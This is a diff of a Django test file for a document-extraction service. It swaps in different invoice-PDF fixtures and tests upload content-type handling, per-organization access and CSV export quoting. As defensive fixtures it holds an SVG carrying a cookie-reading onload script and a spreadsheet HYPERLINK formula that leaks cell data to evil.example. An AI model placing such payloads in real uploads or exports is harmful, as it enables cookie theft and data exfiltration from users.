@@ -13,11 +13,11 @@ from django.test import Client
 from django.urls import reverse
 
 from accounts.web_tenancy import SESSION_ORG_KEY
+from docgen import SIMPLE_INVOICE_SCHEMA, simple_invoice_pdf
 from extractions.models import Document, DocumentStatus
 from extractions.storage import SAFE_CONTENT_TYPES
 from parsers.services import create_parser
 from tests.conftest import api_client_for_user
-from tests.extractions.docs import INVOICE_SCHEMA, invoice_pdf
 from tests.media import _media_in_tmp  # noqa: F401
 from tests.reliability.mutants import image_bytes
 
@@ -29,7 +29,7 @@ SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"/
 
 @pytest.fixture
 def parser_a(org_a):
-    return create_parser(organization=org_a.organization, name="Inv", schema=INVOICE_SCHEMA)
+    return create_parser(organization=org_a.organization, name="Inv", schema=SIMPLE_INVOICE_SCHEMA)
 
 
 def _submit(client, parser, name: str, data: bytes, content_type: str) -> Document:
@@ -51,7 +51,7 @@ def _url(document: Document, tail: str) -> str:
     ("name", "data", "claimed_type", "served_type"),
     [
         # Valid PDFs / images with HTML or SVG in them, named and typed as web pages.
-        ("invoice.html", HTML + invoice_pdf(), "text/html", "application/pdf"),
+        ("invoice.html", HTML + simple_invoice_pdf(), "text/html", "application/pdf"),
         ("drawing.svg", image_bytes("PNG") + SVG, "image/svg+xml", "image/png"),
         ("x.gif", image_bytes("GIF") + HTML, "text/html", "image/gif"),
     ],
@@ -88,7 +88,7 @@ def test_html_and_svg_are_refused_outright(client_a, parser_a):
 def test_page_images_only_for_their_organization(
     client_a, client_b, parser_a, org_a, org_b, anon_client
 ):
-    document = _submit(client_a, parser_a, "i.pdf", invoice_pdf(), "application/pdf")
+    document = _submit(client_a, parser_a, "i.pdf", simple_invoice_pdf(), "application/pdf")
     url = _url(document, "pages/1.png")
     own = api_client_for_user(org_a.member, org_a.organization).get(url)
     assert own.status_code == 200 and own["Content-Type"] == "image/png"
@@ -121,7 +121,7 @@ def test_page_images_only_for_their_organization(
 
 
 def test_csv_export_quotes_cells_a_spreadsheet_would_run(client_a, parser_a, org_a):
-    document = _submit(client_a, parser_a, "i.pdf", invoice_pdf(), "application/pdf")
+    document = _submit(client_a, parser_a, "i.pdf", simple_invoice_pdf(), "application/pdf")
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
     Document.objects.filter(pk=document.pk).update(
         status=DocumentStatus.COMPLETED,
